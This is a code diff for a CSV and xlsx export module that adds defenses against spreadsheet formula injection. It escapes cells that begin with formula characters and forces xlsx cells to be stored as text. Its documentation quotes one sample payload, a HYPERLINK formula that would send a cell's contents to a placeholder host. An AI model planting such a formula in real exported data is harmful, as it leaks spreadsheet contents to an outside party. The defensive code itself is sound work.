@@ -11,7 +11,11 @@ One file (CSV) or sheet (xlsx) per table found in the folder; an absent table (`
   with LIST_SEPARATOR, " | " (space, vertical bar, space): `ID-ST | ID-KS`. Split on it to get
   the list back; no extracted value contains it.
 - dates are ISO 8601 text: `2024-08-14`; run times `2024-08-14T10:00:00+00:00`.
-- CSV is UTF-8 (no byte-order mark), comma-separated, quoted where needed.
+- CSV is UTF-8 (no byte-order mark), comma-separated, CRLF line ends, quoted where needed.
+- no cell runs as a formula: a text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
+  return (a title from the web could be `=HYPERLINK("http://x/?"&A1,"…")`) gets a leading
+  apostrophe in CSV, which spreadsheets read as "this is text" and do not show; in xlsx it is
+  stored unchanged as a text cell (openpyxl would store it as a formula).
 - xlsx cells hold at most 32,767 characters (Excel's limit): a longer `documents.text` is cut
   there and ends with "…"; characters XML forbids (control codes) are dropped.
 
@@ -29,6 +33,7 @@ LIST_SEPARATOR = " | "
 FORMATS = ("csv", "xlsx")
 WORKBOOK = "sepakat.xlsx"
 XLSX_CELL_MAX = 32_767  # Excel's limit on the characters of one cell
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what makes a spreadsheet read a cell as a formula
 
 
 def export(out: str | Path, dest_dir: str | Path, fmt: str = "csv") -> list[Path]:
@@ -44,7 +49,8 @@ def export(out: str | Path, dest_dir: str | Path, fmt: str = "csv") -> list[Path
         written = []
         for name, df in frames.items():
             path = dest / f"{name}.csv"
-            df.to_csv(path, index=False, encoding="utf-8")
+            # CRLF line ends (RFC 4180) also make the writer quote a cell holding a bare CR
+            df.map(as_csv_text).to_csv(path, index=False, encoding="utf-8", lineterminator="\r\n")
             written.append(path)
         return written
     return [_write_xlsx(frames, dest / WORKBOOK)]
@@ -70,6 +76,11 @@ def flatten(df: pd.DataFrame) -> pd.DataFrame:
     return flat
 
 
+def as_csv_text(v):
+    """A CSV cell no spreadsheet runs: text that would start a formula gets a leading apostrophe."""
+    return "'" + v if isinstance(v, str) and v.startswith(FORMULA_START) else v
+
+
 def _write_xlsx(frames: dict[str, pd.DataFrame], path: Path) -> Path:
     try:
         from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
@@ -87,4 +98,8 @@ def _write_xlsx(frames: dict[str, pd.DataFrame], path: Path) -> Path:
             df.map(cell).to_excel(xl, sheet_name=name, index=False)
             sheet = xl.sheets[name]
             sheet.freeze_panes = "A2"
+            for row in sheet.iter_rows():  # every value is data: what openpyxl took for a formula is text
+                for c in row:
+                    if c.data_type == "f":
+                        c.data_type = "s"
     return path
